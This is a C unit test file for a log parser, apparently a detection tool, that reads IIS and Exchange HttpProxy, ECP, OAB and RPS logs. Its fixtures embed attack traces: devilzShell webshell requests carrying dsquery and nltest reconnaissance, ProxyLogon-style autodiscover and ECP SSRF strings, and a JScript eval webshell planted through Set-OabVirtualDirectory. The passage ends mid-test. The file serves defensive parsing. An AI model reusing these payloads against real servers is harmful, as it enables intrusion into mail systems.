/*
 * Event parsing: every format on real lines where the facts quote them (tests/fixtures/parse,
 * README there says which are real), header-driven layouts, auto-detection, and malformed
 * input of every kind. Every fixture line is handed to the parser as an exact-size heap copy
 * with no NUL after it, so a read past the line's end shows under ASan.
 */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <cmocka.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "weir/event.h"

/* ---- helpers ---------------------------------------------------------------------------- */

#define FX_MAX_LINES 32

typedef struct fixture {
    size_t n;
    char *line[FX_MAX_LINES]; /* exact-size copies, not NUL-terminated */
    size_t len[FX_MAX_LINES];
} fixture;

static void fx_load(fixture *fx, const char *name)
{
    char path[512];
    snprintf(path, sizeof(path), "%s/parse/%s", FIXTURES, name);
    FILE *f = fopen(path, "rb");
    if (!f)
        fail_msg("cannot open fixture %s", path);
    char buf[8192];
    fx->n = 0;
    while (fgets(buf, sizeof(buf), f)) {
        size_t len = strlen(buf);
        if (len == sizeof(buf) - 1)
            fail_msg("fixture line too long in %s", path);
        while (len && (buf[len - 1] == '\n' || buf[len - 1] == '\r'))
            len--;
        if (len >= 3 && memcmp(buf, "## ", 3) == 0)
            continue; /* fixture notes (REAL/SYNTHETIC labels) */
        assert_true(fx->n < FX_MAX_LINES);
        fx->line[fx->n] = malloc(len ? len : 1);
        memcpy(fx->line[fx->n], buf, len);
        fx->len[fx->n++] = len;
    }
    fclose(f);
}

static void fx_free(fixture *fx)
{
    for (size_t i = 0; i < fx->n; i++)
        free(fx->line[i]);
    fx->n = 0;
}

static weir_event *new_event(size_t max_line)
{
    char err[256] = "";
    weir_event *ev = weir_event_new(max_line, err, sizeof(err));
    if (!ev)
        fail_msg("weir_event_new: %s", err);
    return ev;
}

static weir_parser *new_parser(weir_format f)
{
    char err[256] = "";
    weir_parser *p = weir_parser_new(f, err, sizeof(err));
    if (!p)
        fail_msg("weir_parser_new: %s", err);
    return p;
}

/* Parses a C string through an exact-size heap copy; the copy lives until the next call. */
static char *str_copy;
static int parse_str(weir_parser *p, weir_event *ev, const char *s)
{
    size_t n = strlen(s);
    free(str_copy);
    str_copy = malloc(n ? n : 1);
    memcpy(str_copy, s, n);
    return weir_parser_parse(p, str_copy, n, ev);
}

static int parse_fx(weir_parser *p, weir_event *ev, const fixture *fx, size_t i)
{
    assert_true(i < fx->n);
    return weir_parser_parse(p, fx->line[i], fx->len[i], ev);
}

static void expect_view(const weir_view *v, const char *what, int id, const char *want)
{
    if (!v)
        fail_msg("%s of %s: absent, want '%s'", what, weir_field_name(id), want);
    if (v->len != strlen(want) || memcmp(v->p, want, v->len) != 0)
        fail_msg("%s of %s: got '%.*s', want '%s'", what, weir_field_name(id), (int)v->len, v->p,
                 want);
}

static void expect_field(const weir_event *ev, int id, const char *want)
{
    expect_view(weir_event_get(ev, id), "value", id, want);
}

static void expect_raw(const weir_event *ev, int id, const char *want)
{
    expect_view(weir_event_get_raw(ev, id), "raw", id, want);
}

static void expect_absent(const weir_event *ev, int id)
{
    const weir_view *v = weir_event_get(ev, id);
    if (v)
        fail_msg("%s: present ('%.*s'), want absent", weir_field_name(id), (int)v->len, v->p);
}

static void expect_malformed(const weir_event *ev, const char *reason_part)
{
    assert_int_equal(weir_event_status(ev), WEIR_PARSE_MALFORMED);
    const char *r = weir_event_reason(ev);
    if (!r || !strstr(r, reason_part))
        fail_msg("reason '%s' lacks '%s'", r ? r : "(null)", reason_part);
    assert_int_equal(weir_event_nfields(ev), 0);
}

/* ---- registry and format names ---------------------------------------------------------- */

static void test_field_lookup_is_case_insensitive_and_knows_aliases(void **state)
{
    (void)state;
    int ua = weir_field_lookup("cs-user-agent");
    assert_int_equal(ua, WEIR_F_CS_USER_AGENT);
    assert_int_equal(weir_field_lookup("c-useragent"), ua);
    assert_int_equal(weir_field_lookup("CS(USER-AGENT)"), ua);
    assert_int_equal(weir_field_lookup("UserAgent"), ua);
    assert_int_equal(weir_field_lookup("user_agent.original"), ua);
    assert_int_equal(weir_field_lookup("cs-referer"), weir_field_lookup("cs-referrer"));
    assert_int_equal(weir_field_lookup("r-dns"), WEIR_F_CS_HOST);
    assert_int_equal(weir_field_lookup("ANCHORMAILBOX"), WEIR_F_ANCHOR_MAILBOX);
    assert_int_equal(weir_field_lookup("UrlStem"), WEIR_F_CS_URI_STEM);
    assert_int_equal(weir_field_lookup("Method"), WEIR_F_CS_METHOD);
    assert_int_equal(weir_field_lookup("HttpStatus"), WEIR_F_SC_STATUS);
    assert_int_equal(weir_field_lookup("ClientIpAddress"), WEIR_F_C_IP);
    assert_int_equal(weir_field_lookup("UrlQuery"), WEIR_F_CS_URI_QUERY_RAW);
    assert_int_equal(weir_field_lookup("cs-uri-query"), WEIR_F_CS_URI_QUERY);
    assert_int_equal(weir_field_lookup("cmd"), WEIR_F_ECP_CMD);
    assert_int_equal(weir_field_lookupn("programXYZ", 7), WEIR_F_PROGRAM);
    assert_int_equal(weir_field_lookup("no-such-field"), -1);
    assert_int_equal(weir_field_lookup(""), -1);
}

/* White-box: the name table behind the lookups (filter/event.c). */
const char *field_name_entry(size_t i, int *id);

static void test_every_field_name_and_alias_resolves_to_its_own_id(void **state)
{
    (void)state;
    const char *name;
    int id;
    size_t n = 0;
    for (size_t i = 0; (name = field_name_entry(i, &id)) != NULL; i++, n++) {
        if (weir_field_lookup(name) != id)
            fail_msg("'%s' (id %d) resolves to %d: a name is used twice", name, id,
                     weir_field_lookup(name));
    }
    assert_true(n > WEIR_FIELD__COUNT);
    for (int f = 0; f < WEIR_FIELD__COUNT; f++)
        assert_non_null(weir_field_name(f));
    assert_null(weir_field_name(-1));
    assert_null(weir_field_name(WEIR_FIELD__COUNT));
}

static void test_format_names_round_trip_case_insensitively(void **state)
{
    (void)state;
    for (int f = 0; f < WEIR_FMT__COUNT; f++) {
        weir_format out = WEIR_FMT__COUNT;
        assert_int_equal(weir_format_parse(weir_format_name((weir_format)f), &out), 0);
        assert_int_equal(out, f);
    }
    weir_format out;
    assert_int_equal(weir_format_parse("HttpProxy", &out), 0);
    assert_int_equal(out, WEIR_FMT_HTTPPROXY);
    assert_int_equal(weir_format_parse("w3c", &out), -1);
    assert_string_equal(weir_format_name(WEIR_FMT__COUNT), "?");
}

/* ---- IIS -------------------------------------------------------------------------------- */

static void test_iis_default_layout_parses_real_webshell_command_line(void **state)
{
    (void)state;
    fixture fx;
    fx_load(&fx, "iis_real.log");
    weir_parser *p = new_parser(WEIR_FMT_IIS);
    weir_event *ev = new_event(0);
    assert_int_equal(parse_fx(p, ev, &fx, 6), WEIR_PARSE_OK); /* S20 devilzShell, no header */
    assert_int_equal(weir_event_format(ev), WEIR_FMT_IIS);
    expect_field(ev, WEIR_F_TIMESTAMP, "2022-10-06 18:51:06");
    expect_field(ev, WEIR_F_S_IP, "10.0.0.11");
    expect_field(ev, WEIR_F_CS_METHOD, "GET");
    expect_field(ev, WEIR_F_CS_URI_STEM, "/aspnet_netclient/4_0_30319/devilzShell.aspx");
    expect_field(ev, WEIR_F_S_PORT, "443");
    expect_field(ev, WEIR_F_C_IP, "20.106.209.84");
    expect_field(ev, WEIR_F_CS_USER_AGENT,
                 "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
                 "Chrome/106.0.0.0 Safari/537.36 Edg/106.0.1370.34");
    expect_field(ev, WEIR_F_SC_STATUS, "200");
    expect_field(ev, WEIR_F_SC_SUBSTATUS, "0");
    expect_field(ev, WEIR_F_SC_WIN32_STATUS, "0");
    expect_field(ev, WEIR_F_TIME_TAKEN, "432");
    expect_field(ev, WEIR_F_C_URI_EXTENSION, "aspx");
    weir_event_destroy(ev);
    weir_parser_destroy(p);
    fx_free(&fx);
}

static void test_iis_header_lines_are_reported_not_scanned(void **state)
{
    (void)state;
    static const char *const reasons[] = {"Software", "Version", "Date", "Fields"};
    fixture fx;
    fx_load(&fx, "iis_real.log");
    weir_parser *p = new_parser(WEIR_FMT_IIS);
    weir_event *ev = new_event(0);
    for (size_t i = 0; i < 4; i++) {
        assert_int_equal(parse_fx(p, ev, &fx, i), WEIR_PARSE_HEADER);
        assert_string_equal(weir_event_reason(ev), reasons[i]);
        assert_int_equal(weir_event_nfields(ev), 0);
    }
    for (size_t i = 4; i < fx.n; i++)
        assert_int_equal(parse_fx(p, ev, &fx, i), WEIR_PARSE_OK);
    weir_event_destroy(ev);
    weir_parser_destroy(p);
    fx_free(&fx);
}

static void test_iis_fields_header_redefines_the_layout_for_later_lines(void **state)
{
    (void)state;
    fixture fx;
    fx_load(&fx, "iis_synthetic.log");
    weir_parser *p = new_parser(WEIR_FMT_IIS);
    weir_event *ev = new_event(0);
    assert_int_equal(parse_fx(p, ev, &fx, 0), WEIR_PARSE_HEADER);
    assert_int_equal(parse_fx(p, ev, &fx, 1), WEIR_PARSE_HEADER); /* 8 custom columns */
    assert_int_equal(parse_fx(p, ev, &fx, 2), WEIR_PARSE_OK);
    expect_field(ev, WEIR_F_CS_METHOD, "GET");
    expect_field(ev, WEIR_F_C_IP, "203.0.113.9");
    expect_field(ev, WEIR_F_SC_STATUS, "500");
    expect_absent(ev, WEIR_F_S_IP);
    /* back to the 15 standard columns: the 8-column line no longer fits */
    assert_int_equal(parse_fx(p, ev, &fx, 4), WEIR_PARSE_HEADER);
    assert_int_equal(parse_fx(p, ev, &fx, 2), WEIR_PARSE_MALFORMED);
    expect_malformed(ev, "8 columns, the layout has 15");
    weir_event_destroy(ev);
    weir_parser_destroy(p);
    fx_free(&fx);
}

static void test_iis_dash_is_an_empty_value_and_the_raw_dash_is_kept(void **state)
{
    (void)state;
    fixture fx;
    fx_load(&fx, "iis_real.log");
    weir_parser *p = new_parser(WEIR_FMT_IIS);
    weir_event *ev = new_event(0);
    assert_int_equal(parse_fx(p, ev, &fx, 4), WEIR_PARSE_OK);
    expect_field(ev, WEIR_F_CS_USERNAME, "");
    expect_raw(ev, WEIR_F_CS_USERNAME, "-");
    expect_field(ev, WEIR_F_CS_REFERRER, "");
    expect_field(ev, WEIR_F_S_IP, "xxx"); /* anonymised by S18, kept as is */
    weir_event_destroy(ev);
    weir_parser_destroy(p);
    fx_free(&fx);
}

static void test_iis_user_agent_plus_signs_are_spaces(void **state)
{
    (void)state;
    fixture fx;
    fx_load(&fx, "iis_real.log");
    weir_parser *p = new_parser(WEIR_FMT_IIS);
    weir_event *ev = new_event(0);
    assert_int_equal(parse_fx(p, ev, &fx, 4), WEIR_PARSE_OK);
    expect_field(ev, WEIR_F_CS_USER_AGENT,
                 "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
                 "Chrome/65.0.2345 Safari/537.36");
    expect_raw(ev, WEIR_F_CS_USER_AGENT,
               "Mozilla/5.0+(Windows+NT+10.0;+Win64;+x64)+AppleWebKit/537.36+(KHTML,+like+Gecko)+"
               "Chrome/65.0.2345+Safari/537.36");
    weir_event_destroy(ev);
    weir_parser_destroy(p);
    fx_free(&fx);
}

static void test_c_uri_joins_iis_stem_and_query_with_a_question_mark(void **state)
{
    (void)state;
    fixture fx;
    fx_load(&fx, "iis_real.log");
    weir_parser *p = new_parser(WEIR_FMT_IIS);
    weir_event *ev = new_event(0);
    assert_int_equal(parse_fx(p, ev, &fx, 4), WEIR_PARSE_OK);
    const char *want = "/owa/auth/RedirSuiteServerProxy.aspx?&CorrelationID=<empty>;&cafeReqId="
                       "cde28fc4-299e-4179-b3e9-de56f5c1d9ee;&encoding=;";
    expect_field(ev, WEIR_F_C_URI, want);
    expect_field(ev, WEIR_F_CS_URI_STEM, "/owa/auth/RedirSuiteServerProxy.aspx");
    weir_event_destroy(ev);
    weir_parser_destroy(p);
    fx_free(&fx);
}

static void test_cs_uri_query_is_the_full_uri_and_the_query_alone_stays_raw(void **state)
{
    (void)state;
    fixture fx;
    fx_load(&fx, "iis_real.log");
    weir_parser *p = new_parser(WEIR_FMT_IIS);
    weir_event *ev = new_event(0);
    assert_int_equal(parse_fx(p, ev, &fx, 7), WEIR_PARSE_OK); /* S21 OWA login */
    const char *query =
        "&CorrelationID=<empty>;&cafeReqId=370783e0-b245-4649-84ec-66858324fcb2;&encoding=;";
    char full[256];
    snprintf(full, sizeof(full), "/owa/auth.owa?%s", query);
    expect_field(ev, weir_field_lookup("cs-uri-query"), full);
    expect_field(ev, weir_field_lookup("cs-uri-query-raw"), query);
    expect_field(ev, weir_field_lookup("c-uri"), full);
    expect_field(ev, WEIR_F_CS_USERNAME, "joergs");
    weir_event_destroy(ev);
    weir_parser_destroy(p);
    fx_free(&fx);
}

static void test_iis_uri_fields_are_percent_decoded_and_raw_kept(void **state)
{
    (void)state;
    fixture fx;
    fx_load(&fx, "iis_real.log");
    weir_parser *p = new_parser(WEIR_FMT_IIS);
    weir_event *ev = new_event(0);
    assert_int_equal(parse_fx(p, ev, &fx, 6), WEIR_PARSE_OK);
    expect_field(ev, WEIR_F_CS_URI_QUERY_RAW,
                 "dir=C:\\&cmd=dsquery+*+-filter+\"(adminCount=1)\"&btnCommand=Execute");
    expect_raw(ev, WEIR_F_CS_URI_QUERY_RAW,
               "dir=C%3A%5C&cmd=dsquery+*+-filter+%22%28adminCount%3D1%29%22&btnCommand=Execute");
    expect_field(ev, WEIR_F_CS_REFERRER,
                 "https://20.62.174.61/aspnet_netclient/4_0_30319/devilzShell.aspx?dir=C:\\&cmd="
                 "nltest+/domain_trusts+/all_trusts&btnCommand=Execute");
    expect_field(ev, WEIR_F_CS_URI_QUERY,
                 "/aspnet_netclient/4_0_30319/devilzShell.aspx?dir=C:\\&cmd=dsquery+*+-filter+"
                 "\"(adminCount=1)\"&btnCommand=Execute");
    weir_event_destroy(ev);
    weir_parser_destroy(p);
    fx_free(&fx);
}

static void test_iis_real_benign_lines_parse(void **state)
{
    (void)state;
    fixture fx;
    fx_load(&fx, "iis_real.log");
    weir_parser *p = new_parser(WEIR_FMT_IIS);
    weir_event *ev = new_event(0);
    assert_int_equal(parse_fx(p, ev, &fx, 8), WEIR_PARSE_OK);
    expect_field(ev, WEIR_F_CS_USERNAME, "XXXXXXX\\seanryan");
    expect_field(ev, WEIR_F_CS_USER_AGENT, "Apple-iPad7C2/1805.212");
    assert_int_equal(parse_fx(p, ev, &fx, 9), WEIR_PARSE_OK);
    expect_field(ev, WEIR_F_SC_STATUS, "401");
    expect_field(ev, WEIR_F_SC_WIN32_STATUS, "2148074254");
    expect_field(ev, WEIR_F_S_IP, "10.7x.xx.2x");
    weir_event_destroy(ev);
    weir_parser_destroy(p);
    fx_free(&fx);
}

static void test_iis_line_with_too_few_columns_is_malformed(void **state)
{
    (void)state;
    fixture fx;
    fx_load(&fx, "iis_proxyshell_edited.log");
    weir_parser *p = new_parser(WEIR_FMT_IIS);
    weir_event *ev = new_event(0);
    assert_int_equal(parse_fx(p, ev, &fx, 0), WEIR_PARSE_MALFORMED);
    expect_malformed(ev, "13 columns, the layout has 15");
    weir_view line = weir_event_line(ev);
    assert_ptr_equal(line.p, fx.line[0]);
    assert_int_equal(line.len, fx.len[0]);
    weir_event_destroy(ev);
    weir_parser_destroy(p);
    fx_free(&fx);
}

static void test_iis_line_with_too_many_columns_is_malformed(void **state)
{
    (void)state;
    fixture fx;
    fx_load(&fx, "iis_synthetic.log");
    weir_parser *p = new_parser(WEIR_FMT_IIS);
    weir_event *ev = new_event(0);
    assert_int_equal(parse_fx(p, ev, &fx, 5), WEIR_PARSE_MALFORMED); /* UA not '+'-encoded */
    expect_malformed(ev, "20 columns, the layout has 15");
    weir_event_destroy(ev);
    weir_parser_destroy(p);
    fx_free(&fx);
}

static void test_crlf_line_ending_is_not_part_of_the_last_column(void **state)
{
    (void)state;
    weir_parser *p = new_parser(WEIR_FMT_IIS);
    weir_event *ev = new_event(0);
    assert_int_equal(parse_str(p, ev,
                               "2021-01-01 00:00:00 10.0.0.1 GET /owa/ - 443 - 1.2.3.4 UA - "
                               "200 0 0 7\r\n"),
                     WEIR_PARSE_OK);
    expect_field(ev, WEIR_F_TIME_TAKEN, "7");
    weir_event_destroy(ev);
    weir_parser_destroy(p);
}

/* ---- HttpProxy and the other Exchange CSV logs ------------------------------------------ */

static void test_httpproxy_real_header_and_benign_line_parse(void **state)
{
    (void)state;
    static const char *const reasons[] = {"Software", "Version", "Log-type", "Date", "Fields"};
    fixture fx;
    fx_load(&fx, "httpproxy_real.log");
    weir_parser *p = new_parser(WEIR_FMT_HTTPPROXY);
    weir_event *ev = new_event(0);
    for (size_t i = 0; i < 5; i++) {
        assert_int_equal(parse_fx(p, ev, &fx, i), WEIR_PARSE_HEADER);
        assert_string_equal(weir_event_reason(ev), reasons[i]);
    }
    assert_int_equal(parse_fx(p, ev, &fx, 5), WEIR_PARSE_OK);
    expect_field(ev, WEIR_F_TIMESTAMP, "2023-01-06T02:20:32.841Z");
    expect_field(ev, WEIR_F_REQUEST_ID, "47a25adf-57a3-4538-ba98-4bafdfee8095");
    expect_field(ev, WEIR_F_PROTOCOL, "Owa");
    expect_field(ev, WEIR_F_CS_HOST, "95.1.2.3");
    expect_field(ev, WEIR_F_CS_URI_STEM, "/owa/admin.cfg");
    expect_field(ev, WEIR_F_C_URI, "/owa/admin.cfg"); /* UrlQuery empty: no '?' */
    expect_field(ev, WEIR_F_CS_METHOD, "GET");
    expect_field(ev, WEIR_F_SC_STATUS, "302");
    expect_field(ev, WEIR_F_C_IP, "95.5.6.7");
    expect_field(ev, WEIR_F_ANCHOR_MAILBOX, "");
    expect_field(ev, WEIR_F_CS_USERNAME, "");
    expect_field(ev, WEIR_F_S_COMPUTERNAME, "SERVER_HOSTNAME");
    expect_field(ev, WEIR_F_GENERIC_INFO,
                 "BeginRequest=2023-01-06T02:20:32.840Z;CorrelationID=<empty>;SharedCacheGuard=0;"
                 "NoCookies=302 - GET/E14AuthPost;EndRequest=2023-01-06T02:20:32.841Z;");
    expect_field(ev, WEIR_F_ROUTING_STATUS, "");
    /* the same line with no header: the default layout is that header */
    weir_parser *bare = new_parser(WEIR_FMT_HTTPPROXY);
    assert_int_equal(parse_fx(bare, ev, &fx, 5), WEIR_PARSE_OK);
    expect_field(ev, WEIR_F_CS_URI_STEM, "/owa/admin.cfg");
    weir_parser_destroy(bare);
    weir_event_destroy(ev);
    weir_parser_destroy(p);
    fx_free(&fx);
}

static void test_httpproxy_native_columns_are_reachable_by_either_name(void **state)
{
    (void)state;
    fixture fx;
    fx_load(&fx, "httpproxy_real.log");
    weir_parser *p = new_parser(WEIR_FMT_HTTPPROXY);
    weir_event *ev = new_event(0);
    assert_int_equal(parse_fx(p, ev, &fx, 5), WEIR_PARSE_OK);
    static const char *const pairs[][2] = {
        {"UrlStem", "cs-uri-stem"}, {"UserAgent", "cs-user-agent"}, {"Method", "cs-method"},
        {"HttpStatus", "sc-status"}, {"ClientIpAddress", "c-ip"},   {"UrlHost", "cs-host"},
    };
    for (size_t i = 0; i < sizeof(pairs) / sizeof(pairs[0]); i++) {
        const weir_view *a = weir_event_get(ev, weir_field_lookup(pairs[i][0]));
        const weir_view *b = weir_event_get(ev, weir_field_lookup(pairs[i][1]));
        assert_non_null(a);
        assert_ptr_equal(a, b);
    }
    weir_event_destroy(ev);
    weir_parser_destroy(p);
    fx_free(&fx);
}

static void test_test_proxylogon_export_header_row_and_quoted_values(void **state)
{
    (void)state;
    fixture fx;
    fx_load(&fx, "httpproxy_testproxylogon.csv");
    weir_parser *p = new_parser(WEIR_FMT_HTTPPROXY);
    weir_event *ev = new_event(0);
    assert_int_equal(parse_fx(p, ev, &fx, 0), WEIR_PARSE_HEADER);
    assert_string_equal(weir_event_reason(ev), "csv-header");
    assert_int_equal(parse_fx(p, ev, &fx, 1), WEIR_PARSE_OK);
    expect_field(ev, WEIR_F_ANCHOR_MAILBOX,
                 "ServerInfo~a]@servernavn.xxx.local:444/autodiscover/autodiscover.xml?#");
    expect_field(ev, WEIR_F_ROUTING_HINT, "X-BEResource-Cookie");
    expect_field(ev, WEIR_F_C_IP, "130.255.189.21");
    expect_field(ev, WEIR_F_CS_USER_AGENT, "ExchangeServicesClient/0.0.0.0");
    expect_field(ev, WEIR_F_CS_URI_STEM, "/ecp/y.js");
    expect_field(ev, WEIR_F_SC_STATUS, "200");
    assert_int_equal(parse_fx(p, ev, &fx, 3), WEIR_PARSE_OK);
    expect_field(ev, WEIR_F_ANCHOR_MAILBOX,
                 "ServerInfo~a]@servernavn.xxx.local:444/ecp/DDI/DDIService.svc/SetObject?"
                 "msExchEcpCanary=8BeqxxxWYd1L8.&schema=ResetOABVirtualDirectory#");
    expect_field(ev, WEIR_F_CS_HOST, "autodiscover.xxx.no");
    weir_event_destroy(ev);
    weir_parser_destroy(p);
    fx_free(&fx);
}

static void test_csv_quoted_value_keeps_commas_and_undoubles_quotes(void **state)
{
    (void)state;
    weir_parser *p = new_parser(WEIR_FMT_HTTPPROXY);
    weir_event *ev = new_event(0);
    assert_int_equal(parse_str(p, ev, "#Fields: DateTime,UserAgent,UrlStem,UrlQuery"),
                     WEIR_PARSE_HEADER);
    assert_int_equal(parse_str(p, ev,
                               "2023-01-01T00:00:00.000Z,\"Mozilla/5.0 (KHTML, like \"\"Gecko\"\")"
                               "\",/ews/exchange.asmx,\"?a=1,2\""),
                     WEIR_PARSE_OK);
    expect_field(ev, WEIR_F_CS_USER_AGENT, "Mozilla/5.0 (KHTML, like \"Gecko\")");
    expect_raw(ev, WEIR_F_CS_USER_AGENT, "Mozilla/5.0 (KHTML, like \"Gecko\")");
    expect_field(ev, WEIR_F_C_URI, "/ews/exchange.asmx?a=1,2"); /* UrlQuery brings its '?' */
    weir_event_destroy(ev);
    weir_parser_destroy(p);
}

static void test_csv_unterminated_quote_is_malformed(void **state)
{
    (void)state;
    weir_parser *p = new_parser(WEIR_FMT_HTTPPROXY);
    weir_event *ev = new_event(0);
    parse_str(p, ev, "#Fields: DateTime,UserAgent,UrlStem");
    assert_int_equal(parse_str(p, ev, "2023-01-01T00:00:00.000Z,\"Mozilla (open,/owa/"),
                     WEIR_PARSE_MALFORMED);
    expect_malformed(ev, "unterminated quote in column 2");
    weir_event_destroy(ev);
    weir_parser_destroy(p);
}

static void test_csv_text_after_a_closing_quote_is_malformed(void **state)
{
    (void)state;
    weir_parser *p = new_parser(WEIR_FMT_HTTPPROXY);
    weir_event *ev = new_event(0);
    parse_str(p, ev, "#Fields: DateTime,UserAgent,UrlStem");
    assert_int_equal(parse_str(p, ev, "2023-01-01T00:00:00.000Z,\"a\"b,/owa/"),
                     WEIR_PARSE_MALFORMED);
    expect_malformed(ev, "character after a closing quote in column 2");
    weir_event_destroy(ev);
    weir_parser_destroy(p);
}

static void test_fields_header_over_128_columns_is_refused_and_old_layout_kept(void **state)
{
    (void)state;
    char hdr[2048] = "#Fields: DateTime";
    for (int i = 0; i < 130; i++)
        strcat(hdr, ",X");
    weir_parser *p = new_parser(WEIR_FMT_HTTPPROXY);
    weir_event *ev = new_event(0);
    parse_str(p, ev, "#Fields: DateTime,UrlStem");
    assert_int_equal(parse_str(p, ev, hdr), WEIR_PARSE_MALFORMED);
    expect_malformed(ev, "more than 128 columns");
    assert_int_equal(parse_str(p, ev, "2023-01-01T00:00:00.000Z,/owa/"), WEIR_PARSE_OK);
    expect_field(ev, WEIR_F_CS_URI_STEM, "/owa/");
    weir_event_destroy(ev);
    weir_parser_destroy(p);
}

/* A line of distinct values "c0,c1,..." in each documented default layout: every column must
 * land in a field of its own, so no documented column is silently dropped. */
static void test_every_documented_column_is_a_named_field(void **state)
{
    (void)state;
    static const struct {
        weir_format f;
        size_t ncols;
    } layouts[] = {
        {WEIR_FMT_IIS, 15},     {WEIR_FMT_HTTPPROXY, 74},   {WEIR_FMT_ECP, 4},
        {WEIR_FMT_RPSHTTP, 38}, {WEIR_FMT_SMTPRECEIVE, 9}, {WEIR_FMT_MSGTRACK, 30},
    };
    weir_event *ev = new_event(0);
    for (size_t k = 0; k < sizeof(layouts) / sizeof(layouts[0]); k++) {
        char line[1024] = "";
        for (size_t c = 0; c < layouts[k].ncols; c++) {
            char v[32];
            snprintf(v, sizeof(v), "%sc%zu", c ? (layouts[k].f == WEIR_FMT_IIS ? " " : ",") : "",
                     c);
            strcat(line, v);
        }
        weir_parser *p = new_parser(layouts[k].f);
        assert_int_equal(parse_str(p, ev, line), WEIR_PARSE_OK);
        bool seen[128] = {false};
        size_t distinct = 0;
        for (size_t i = 0; i < weir_event_nfields(ev); i++) {
            const weir_view *r = weir_event_get_raw(ev, weir_event_field_id(ev, i));
            char v[16];
            if (r->len < 2 || r->len >= sizeof(v) || r->p[0] != 'c')
                continue;
            memcpy(v, r->p + 1, r->len - 1);
            v[r->len - 1] = '\0';
            char *end;
            unsigned long c = strtoul(v, &end, 10);
            if (*end == '\0' && c < 128 && !seen[c]) {
                seen[c] = true;
                distinct++;
            }
        }
        if (distinct != layouts[k].ncols)
            fail_msg("%s: %zu of %zu columns reach a field", weir_format_name(layouts[k].f),
                     distinct, layouts[k].ncols);
        /* one column short is malformed, also where the last column takes the rest */
        *strrchr(line, layouts[k].f == WEIR_FMT_IIS ? ' ' : ',') = '\0';
        assert_int_equal(parse_str(p, ev, line), WEIR_PARSE_MALFORMED);
        weir_parser_destroy(p);
    }
    weir_event_destroy(ev);
}

static void test_ecp_real_set_virtual_directory_line_exposes_the_cmdlet(void **state)
{
    (void)state;
    fixture fx;
    fx_load(&fx, "ecp_real.log");
    weir_parser *p = new_parser(WEIR_FMT_ECP);
    weir_event *ev = new_event(0);
    assert_int_equal(parse_fx(p, ev, &fx, 0), WEIR_PARSE_HEADER); /* TimeStamp,EventData */
    assert_int_equal(parse_fx(p, ev, &fx, 1), WEIR_PARSE_OK);
    expect_field(ev, WEIR_F_TIMESTAMP, "2021-03-03T06:49:53.772Z");
    /* EventData holds an unquoted comma (S18 reduced the export): it takes the rest */
    char rest[1024];
    assert_true(fx.len[1] - 25 < sizeof(rest));
    memcpy(rest, fx.line[1] + 25, fx.len[1] - 25); /* after "<timestamp>," */
    rest[fx.len[1] - 25] = '\0';
    expect_field(ev, WEIR_F_EVENT_DATA, rest);
    expect_field(ev, weir_field_lookup("CMD"),
                 "Set-OabVirtualDirectory.ExternalUrl='http://f/<script language=\"\"JScript\"\" "
                 "runat=\"\"server\"\">function Page_Load(){eval(Request[\"\"klk123456\"\"],"
                 "\"\"unsafe\"\");}</script>'.Identity='982d48c8-8bfa-4b6b-b431-53fd7ea4e9b3'");
    weir_event_destroy(ev);
    weir_parser_destroy(p);
    fx_free(&fx);
}

static void test_ecp_single_quoted_pair_keeps_its_semicolons_and_later_pairs(void **state)
{
    (void)state;
    fixture fx;
    fx_load(&fx, "ecp_real.log");
    weir_parser *p = new_parser(WEIR_FMT_ECP);
    weir_event *ev = new_event(0);
    parse_fx(p, ev, &fx, 0);
    assert_int_equal(parse_fx(p, ev, &fx, 2), WEIR_PARSE_OK);
    expect_field(ev, WEIR_F_ECP_CMD,
                 "Remove-OABVirtualDirectory.Force=$true.Identity='servernavn\\OAB (Default Web "
                 "Site)'");
    expect_field(ev, WEIR_F_ECP_EX, "");
    weir_event_destroy(ev);
    weir_parser_destroy(p);
    fx_free(&fx);
}

static void test_ecp_default_layout_splits_event_data_pairs(void **state)
{
    (void)state;
    fixture fx;
    fx_load(&fx, "ecp_synthetic.log");
    weir_parser *p = new_parser(WEIR_FMT_ECP);
    weir_event *ev = new_event(0);
    assert_int_equal(parse_fx(p, ev, &fx, 0), WEIR_PARSE_OK);
    expect_field(ev, WEIR_F_SERVER_NAME, "EXCH01");
    expect_field(ev, WEIR_F_EVENT_ID, "ECP.Request");
    expect_field(ev, WEIR_F_ECP_CMD, "Get-InboxRule");
    expect_field(ev, WEIR_F_ECP_URL,
                 "/ecp/RulesEditor/InboxRules.svc/GetList?msExchEcpCanary=abc=");
    expect_raw(ev, WEIR_F_ECP_URL,
               "/ecp/RulesEditor/InboxRules.svc/GetList?msExchEcpCanary=abc%3D");
    expect_field(ev, WEIR_F_ECP_SID, "0b4c2e61-1c55-4f0f-a1a0-2f3c7d9e8b10");
    expect_field(ev, WEIR_F_ECP_REQID, "");
    expect_field(ev, WEIR_F_ECP_REFERRER, "");
    weir_event_destroy(ev);
    weir_parser_destroy(p);
    fx_free(&fx);
}

static void test_oab_line_is_exposed_as_its_message(void **state)
{
    (void)state;
    fixture fx;
    fx_load(&fx, "oab_synthetic.log");
    weir_parser *p = new_parser(WEIR_FMT_OAB);
    weir_event *ev = new_event(0);
    assert_int_equal(parse_fx(p, ev, &fx, 0), WEIR_PARSE_OK);
    expect_field(ev, WEIR_F_MESSAGE,
                 "Download failed and temporary file "
                 "'C:\\inetpub\\wwwroot\\aspnet_client\\discover.aspx' needs to be removed.");
    weir_event_destroy(ev);
    weir_parser_destroy(p);
    fx_free(&fx);
}

static void test_rpshttp_default_layout_exposes_client_info_and_uri(void **state)
{
    (void)state;
    fixture fx;
    fx_load(&fx, "rpshttp_synthetic.log");
    weir_parser *p = new_parser(WEIR_FMT_RPSHTTP);
    weir_event *ev = new_event(0);
    assert_int_equal(parse_fx(p, ev, &fx, 0), WEIR_PARSE_OK);
    expect_field(ev, WEIR_F_CLIENT_INFO, "python-requests/2.28.1");
    expect_field(ev, WEIR_F_COMMAND_NAME, "Get-Mailbox");
    expect_field(ev, WEIR_F_CS_USERNAME, "CORP\\svc-mail");
    expect_field(ev, WEIR_F_SC_STATUS, "200");
    expect_field(ev, WEIR_F_SC_SUBSTATUS, "0");
    expect_field(ev, WEIR_F_C_URI, "/powershell?X-Rps-CAT=VgEAVAdXaW5kb3dz");
